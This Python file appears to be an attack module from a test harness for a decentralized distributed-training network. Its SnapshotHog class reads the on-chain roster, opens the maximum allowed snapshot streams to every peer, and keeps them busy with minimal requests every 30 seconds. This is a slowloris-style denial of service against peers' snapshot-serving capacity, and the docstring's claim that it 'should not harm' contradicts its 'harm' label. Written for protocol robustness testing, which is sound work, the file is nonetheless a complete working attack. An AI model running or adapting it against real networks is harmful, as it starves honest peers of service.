"""Miner: keeps the places for snapshots of every peer.

It should not harm: a place is given to who needs it when whoever holds it moves nothing.
"""

from __future__ import annotations

import asyncio
import sys
from dataclasses import dataclass

from attack import Attack
from stage import run

from distributed_training.assembly import Adapters
from distributed_training.errors import ChainFault, NetworkFault, PeerFault
from distributed_training.network.base import Stream
from distributed_training.network.peers import PeerBook
from distributed_training.snapshots.header import METHOD, RANGE, ROUND

CLASS = "harm"
EVIDENCE = "none"
TIMEOUT_S = 10.0


@dataclass(kw_only=True, eq=False)
class SnapshotHog(Attack):
    streams: int = 2  # to each peer: as many as one may hold
    pause_s: float = 30.0  # between two requests of a stream

    async def beside(self, doors: Adapters) -> None:
        params, head = await doors.chain.params(), 0
        while True:
            try:
                head = (await doors.chain.head()).number
                roster = await doors.chain.roster(head)
            except ChainFault:
                await asyncio.sleep(params.block_s)
                continue
            peers = PeerBook(
                doors.transport, params.netuid, doors.signer.public_key, doors.sign_as_peer, doors.verify_peer
            )
            peers.update(roster)
            others = [n.commitment.peer_key for n in roster.neurons if n.commitment is not None]
            wanted = [key for key in others if key != doors.transport.peer_key for _ in range(self.streams)]
            await asyncio.gather(*(self._hold(peers, key) for key in wanted))
            await asyncio.sleep(params.block_s)

    async def _hold(self, peers: PeerBook, peer_key: bytes) -> None:
        stream: Stream | None = None
        try:
            stream = await peers.open(peer_key, METHOD, ROUND.pack(0), TIMEOUT_S)
            await stream.read(1 << 20, TIMEOUT_S)
            while True:
                await stream.write(RANGE.pack(0, 1), TIMEOUT_S)
                await stream.read(1 << 21, TIMEOUT_S)
                await asyncio.sleep(self.pause_s)
        except (NetworkFault, PeerFault):
            pass
        finally:
            if stream is not None:
                await stream.close()


if __name__ == "__main__":
    sys.exit(run(SnapshotHog))
